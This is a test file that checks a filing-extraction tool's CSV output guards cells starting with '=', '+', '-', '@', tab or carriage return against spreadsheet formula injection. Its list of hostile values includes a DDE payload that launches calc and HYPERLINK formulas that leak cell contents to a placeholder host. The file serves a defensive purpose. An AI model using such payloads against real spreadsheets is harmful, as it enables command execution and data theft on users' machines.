/**
 * CSV output is safe to open in a spreadsheet and loses nothing (SPEC.md
 * "CSV"): a cell that begins with `=`, `+`, `-`, `@`, tab or carriage return
 * is prefixed with `'`, and a CSV reader (csv-parse) gets every value back
 * exactly once that prefix is taken off where it was added: quotes, commas,
 * line ends, non-ASCII text and all.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cli } from "../../src/cli/cli.js";
import { CSV_COLUMNS, CSV_PATHS, flattenRecord } from "../../src/output/flatten-record.js";
import { protectCell } from "../../src/output/protect-cell.js";
import { createRecordWriter } from "../../src/output/record-writer.js";
import { emptyRecord } from "../../src/record/empty-record.js";
import type { NtRecord } from "../../src/record/types.js";
import { memoryIo } from "../batch/batch-helpers.js";
import { tempFolders } from "../helpers/fuzz-temp.js";
import { sampleText, TEXT_SAMPLE } from "../helpers/fuzz-seeds.js";

/** Temporary folders, removed after this file's tests. */
const tempDir = tempFolders();

const RUNS = Number(process.env["FUZZ_RUNS"] ?? 300);
const SEED = Number(process.env["FUZZ_SEED"] ?? 20_240_111);

/** First characters a spreadsheet would take for a formula (SPEC.md). */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];

/** Hostile cell values: formulas, DDE, quotes, separators, line ends, non-ASCII, blanks. */
const HOSTILE: readonly string[] = [
  "=1+1",
  "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
  "=cmd|' /C calc'!A0",
  "+SUM(A1:A9)",
  "-2+3",
  "-",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\r\n=1",
  "'=already quoted",
  "a,b,c",
  'say "hello", then leave',
  '"',
  '""',
  "line one\nline two",
  "line one\r\nline two\rline three",
  "trailing blank ",
  " leading blank",
  "\n",
  "ACME Société Générale — 株式会社 🏦",
  "tab\tinside",
  "semi;colon|pipe",
  "NUL\u0000inside",
  "\u00a0=no-break space first",
  "=",
  "",
];

/** Text fields of the record a hostile value is put into (SPEC paths). */
const TEXT_FIELDS = [
  "source.path",
  "filing.companyName",
  "filing.fileNumber",
  "form.itemsRelatedTo",
  "registrant.name",
  "registrant.address",
  "part3.narrative",
  "part4.contactName",
  "part4.contactPhone",
  "part4.changeExplanation",
  "signature.name",
  "signature.title",
  "auditorLetter.text",
] as const;

function setPath(record: NtRecord, path: string, value: string): void {
  const parts = path.split(".");
  let cur = record as unknown as Record<string, unknown>;
  for (const part of parts.slice(0, -1)) {
    if (cur[part] === null) cur[part] = { firm: null, date: null, text: null };
    cur = cur[part] as Record<string, unknown>;
  }
  cur[parts[parts.length - 1] as string] = value;
}

/** A record whose text fields hold the given values (others empty). */
function recordWith(values: readonly string[]): NtRecord {
  const record = emptyRecord("input.txt", "0".repeat(64), "text");
  values.forEach((v, i) => setPath(record, TEXT_FIELDS[i % TEXT_FIELDS.length] as string, v));
  return record;
}

/** The CSV file the writer makes of `records`. */
function writeCsv(records: readonly NtRecord[]): string {
  const writer = createRecordWriter("csv");
  return writer.header() + records.map((r, i) => writer.record(r, i)).join("") + writer.footer(records.length);
}

/** Parses CSV text the way a reader would. */
function readCsv(text: string): string[][] {
  return parse(text, { relax_quotes: false, skip_empty_lines: false }) as string[][];
}

/**
 * Checks that every cell read back is the record's value, with `'` in front
 * exactly when the value starts like a formula; returns what differs.
 */
function roundTripProblems(records: readonly NtRecord[], rows: string[][]): string[] {
  const problems: string[] = [];
  if (rows.length !== records.length + 1) problems.push(`${rows.length} rows for ${records.length} records and a header`);
  if (JSON.stringify(rows[0]) !== JSON.stringify(CSV_COLUMNS)) problems.push("header differs");
  records.forEach((record, r) => {
    const want = flattenRecord(record);
    const got = rows[r + 1] ?? [];
    if (got.length !== want.length) problems.push(`row ${r + 1}: ${got.length} cells for ${want.length} columns`);
    want.forEach((value, c) => {
      const cell = got[c];
      const v = value ?? "";
      const guarded = FORMULA_STARTS.some((s) => v.startsWith(s));
      if (cell === undefined) return;
      if (FORMULA_STARTS.some((s) => cell.startsWith(s))) problems.push(`row ${r + 1} ${CSV_COLUMNS[c]}: cell starts like a formula: ${JSON.stringify(cell)}`);
      const back = guarded ? (cell.startsWith("'") ? cell.slice(1) : `<no ' prefix>${cell}`) : cell;
      if (back !== v) problems.push(`row ${r + 1} ${CSV_COLUMNS[c]}: wrote ${JSON.stringify(v)}, read ${JSON.stringify(cell)}`);
    });
  });
  return problems;
}

describe("protectCell", () => {
  it.each(FORMULA_STARTS)("prefixes a value starting with %j", (start) => {
    expect(protectCell(`${start}1+1`)).toBe(`'${start}1+1`);
  });

  it("leaves other values alone, including a value already starting with '", () => {
    for (const v of ["ACME", "'=1", " =1", "\u00a0=1", "1-2", "a=b", ""]) expect(protectCell(v)).toBe(v);
  });
});

describe("CSV round trip", () => {
  it("gives back every hostile value, protected where it starts like a formula", () => {
    const records = HOSTILE.map((v, i) => recordWith(Array.from({ length: TEXT_FIELDS.length }, (_, k) => HOSTILE[(i + k) % HOSTILE.length] as string)));
    records.push(recordWith(HOSTILE));
    expect(roundTripProblems(records, readCsv(writeCsv(records)))).toEqual([]);
  });

  it("gives back every value of random records exactly (through a UTF-8 file)", () => {
    const dir = tempDir();
    const value = fc.oneof(
      fc.string({ unit: "binary", maxLength: 60 }),
      fc.tuple(fc.constantFrom(...FORMULA_STARTS, "'", '"', ",", "\n", " "), fc.string({ unit: "binary", maxLength: 30 })).map(([a, b]) => a + b),
      fc.constantFrom(...HOSTILE),
    );
    fc.assert(
      fc.property(fc.array(fc.array(value, { minLength: 1, maxLength: TEXT_FIELDS.length }), { minLength: 1, maxLength: 5 }), (rows) => {
        const records = rows.map((values) => recordWith(values));
        const file = join(dir, "out.csv");
        writeFileSync(file, writeCsv(records), "utf8");
        expect(roundTripProblems(records, readCsv(readFileSync(file, "utf8")))).toEqual([]);
      }),
      { seed: SEED + 11, numRuns: RUNS },
    );
  });

  it("would notice a formula written unprotected or a value changed", () => {
    const record = recordWith(["=1+1", "plain"]);
    const unprotected = stringify([[...CSV_COLUMNS], flattenRecord(record).map((c) => c ?? "")]);
    expect(roundTripProblems([record], readCsv(unprotected)).join("\n")).toContain("starts like a formula");
    const changed = readCsv(writeCsv([record]));
    (changed[1] as string[])[CSV_COLUMNS.indexOf("filing_company_name")] = "plain!";
    expect(roundTripProblems([record], changed).join("\n")).toContain("wrote");
  });

  it("covers every column of SPEC.md", () => {
    expect(CSV_COLUMNS).toHaveLength(CSV_PATHS.length + 1);
  });
});

describe("extract --format csv on a notice with formulas for values", () => {
  it("writes the registrant's name and the signer protected, and reads them back", async () => {
    const dir = tempDir();
    // Values keep their leading sign (=, +, -, @); only the CSV writer guards them.
    const hostileName = '@HYPERLINK("http://example.invalid","x"), Inc.';
    const notice = sampleText(TEXT_SAMPLE).replaceAll("IGENE Biotechnology, Inc.", hostileName).replace("Stephen F. Hiu\n", "+SUM(1+1)\n");
    const file = join(dir, "hostile-nt10k.txt");
    writeFileSync(file, notice);
    const io = memoryIo();
    const code = await cli(["extract", file, "--format", "csv", "--jobs", "1"], io);
    expect(code).toBe(0);
    const rows = readCsv(io.out());
    expect(rows).toHaveLength(2);
    const header = rows[0] as string[];
    const row = rows[1] as string[];
    const cell = (name: string): string => row[header.indexOf(name)] as string;
    expect(cell("registrant_name")).toBe(`'${hostileName}`);
    expect(cell("signature_registrant_name").startsWith("'@HYPERLINK")).toBe(true);
    expect(cell("part4_contact_name")).toBe("'+SUM(1+1)");
    for (const c of row) expect(FORMULA_STARTS.some((s) => c.startsWith(s)), c).toBe(false);
  });
});
